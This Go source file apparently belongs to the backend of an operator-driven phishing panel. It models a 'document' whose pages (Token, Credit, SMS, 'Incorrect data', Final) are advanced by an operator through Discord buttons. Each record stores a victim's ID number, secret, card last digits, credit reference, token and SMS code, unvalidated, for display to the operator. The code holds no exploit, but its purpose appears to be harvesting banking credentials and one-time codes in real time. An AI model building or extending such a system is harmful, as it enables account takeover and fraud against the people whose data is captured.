package model

import (
	"fmt"
	"strings"
	"unicode"
)

// Page is a position in the document workflow.
type Page int

const (
	PageHome Page = iota + 1
	PageToken
	PageCredit
	PageSMS
	PageIncorrectData
	PageFinal
)

// Valid reports whether p is one of the known workflow pages.
func (p Page) Valid() bool {
	return p >= PageHome && p <= PageFinal
}

// Label returns the operator-facing name of the page.
func (p Page) Label() string {
	switch p {
	case PageHome:
		return "Home"
	case PageToken:
		return "Token"
	case PageCredit:
		return "Credit"
	case PageSMS:
		return "SMS"
	case PageIncorrectData:
		return "Incorrect data"
	case PageFinal:
		return "Final"
	default:
		return "Unknown"
	}
}

// Action is the current workflow state of a document.
type Action string

const (
	ActionNone      Action = "none"
	ActionWaiting   Action = "waiting"
	ActionApproved  Action = "approved"
	ActionCancelled Action = "cancelled"
)

// Sentinel values for submission attributes the caller did not supply.
const (
	NotSpecified    = "Not specified"
	NotProvided     = "Not provided"
	DefaultCategory = "general"
)

// Document is the workflow record for one submitted document.
// Submission attributes are stored as-is and never validated; they only
// exist to be displayed to the operator.
type Document struct {
	DocID       string `json:"docId"`
	Page        Page   `json:"page"`
	Action      Action `json:"action"`
	PendingPage Page   `json:"pendingPage,omitempty"`
	Timestamp   int64  `json:"timestamp"`

	IDType     string `json:"idType"`
	IDNumber   string `json:"idNumber"`
	Secret     string `json:"secret"`
	LastDigits string `json:"lastDigits"`
	City       string `json:"city"`
	Category   string `json:"category"`
	CreditRef  string `json:"creditRef"`
	Token      string `json:"token"`
	SMSCode    string `json:"sms"`
}

// Submission carries the caller-supplied attributes of a new document.
// Empty fields are replaced by sentinels when the record is built.
type Submission struct {
	IDType     string `json:"idType"`
	IDNumber   string `json:"idNumber"`
	Secret     string `json:"secret"`
	LastDigits string `json:"lastDigits"`
	City       string `json:"city"`
	Category   string `json:"category"`
	CreditRef  string `json:"creditRef"`
	Token      string `json:"token"`
	SMSCode    string `json:"sms"`
}

// NewDocument builds the initial record for a freshly submitted document.
func NewDocument(docID string, sub Submission, timestamp int64) Document {
	return Document{
		DocID:      docID,
		Page:       PageHome,
		Action:     ActionNone,
		Timestamp:  timestamp,
		IDType:     orSentinel(sub.IDType, NotSpecified),
		IDNumber:   orSentinel(sub.IDNumber, docID),
		Secret:     orSentinel(sub.Secret, NotProvided),
		LastDigits: orSentinel(sub.LastDigits, NotProvided),
		City:       orSentinel(sub.City, NotSpecified),
		Category:   orSentinel(sub.Category, DefaultCategory),
		CreditRef:  orSentinel(sub.CreditRef, NotProvided),
		Token:      orSentinel(sub.Token, NotProvided),
		SMSCode:    orSentinel(sub.SMSCode, NotProvided),
	}
}

func orSentinel(value, sentinel string) string {
	if value == "" {
		return sentinel
	}
	return value
}

// MaxDocIDLength keeps encoded component identifiers inside Discord's
// 100-byte custom ID limit, with room for the longest command prefix.
const MaxDocIDLength = 80

// ValidateDocID checks that an externally supplied identifier is safe to
// embed in a component identifier. Delimiter characters are allowed; the
// codec keeps them unambiguous by always placing the identifier last.
func ValidateDocID(id string) error {
	if id == "" {
		return fmt.Errorf("docId is required")
	}
	if len(id) > MaxDocIDLength {
		return fmt.Errorf("docId exceeds %d bytes", MaxDocIDLength)
	}
	if strings.ContainsFunc(id, unicode.IsControl) {
		return fmt.Errorf("docId contains control characters")
	}
	return nil
}
